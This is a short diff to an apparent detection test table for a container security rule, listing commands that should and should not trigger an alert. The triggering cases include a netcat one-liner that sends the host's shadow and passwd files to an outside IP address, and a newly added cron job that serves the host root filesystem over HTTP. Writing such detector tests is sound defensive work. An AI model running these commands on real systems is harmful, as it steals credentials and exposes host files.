@@ -6,6 +6,9 @@ const onMount = (path: string, mountPath: string, text: string) =>
 
 indicatorTable(commandHostFileSend, {
   fires: {
+    'the node as a web site': cronJob(
+      mounting('/', {}, ['python3', '-m', 'http.server', '8000', '--directory', '/host']),
+    ),
     'password hashes through netcat': scriptOn('/etc', 'cat /host/shadow /host/passwd | nc -w 3 203.0.113.7 4444'),
     'keys of the kubelet in an archive': onMount(
       '/var/lib/kubelet',
@@ -19,6 +22,9 @@ indicatorTable(commandHostFileSend, {
     ),
   },
   staysSilent: {
+    'pages of the container': cronJob(
+      mounting('/', {}, ['python3', '-m', 'http.server', '8000', '--directory', '/srv']),
+    ),
     'files of an application': onMount(
       '/data/shop',
       '/d',
